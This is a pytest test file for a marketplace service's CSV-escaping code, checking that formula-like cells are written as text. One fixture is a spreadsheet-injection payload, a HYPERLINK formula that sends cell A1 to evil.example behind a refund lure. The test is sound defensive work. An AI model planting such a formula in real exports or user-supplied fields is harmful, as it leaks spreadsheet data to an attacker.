"""No CSV the service writes can run a spreadsheet formula, whatever a provider calls itself."""

import csv
import io
from pathlib import Path

import pytest

from marketplace.csv_safety import SafeWriter, safe_cell
from tests.factories import create_provider, create_user, person_of
from tests.factories_payments import owe_provider

SOURCE = Path(__file__).resolve().parent.parent / "marketplace"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'


TEXT_CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+44 113 496 0000", "'+44 113 496 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12.50", "-12.50"),  # a plain number stays a number
    ("Brightpath Home Care", "Brightpath Home Care"),
    ("", ""),
    ("Line one\n=1+1", "Line one\n=1+1"),  # only a cell's start matters
]


@pytest.mark.parametrize("value, written", [*TEXT_CELLS, (12, 12)])
def test_cells_that_could_start_a_formula_are_written_as_text(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("value, written", TEXT_CELLS)
def test_a_long_csv_checks_its_text_columns_as_every_cell_is_checked(value, written):
    out = io.StringIO()
    SafeWriter(out).write_text_columns([["-5", value, value], ["-5", "fine", value]], text_columns=[1, 2])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-5", written, written], ["-5", "fine", written]]


def test_only_the_safe_writer_makes_csv_writers():
    makers = sorted(str(path.relative_to(SOURCE)) for path in SOURCE.rglob("*.py")
                    if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    assert makers == ["csv_safety.py"]


def test_the_safe_writer_quotes_every_cell_of_a_row():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "fine", "-5"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "fine", "-5"]


def test_a_provider_named_like_a_formula_is_text_in_the_statement_csv(session, client_request):
    sam = create_user(session, name="Sam Taylor")
    person = person_of(session, sam)
    provider = create_provider(session, name=HYPERLINK)
    owe_provider(session, provider=provider, person=person, amount_pence=5_000)
    client_request.login(sam)
    response = client_request.get_response("/budget/statement.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    provider_cells = [cell for row in rows for cell in row if "HYPERLINK" in cell and cell.startswith(("'", "="))]
    assert provider_cells and all(cell == "'" + HYPERLINK for cell in provider_cells)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
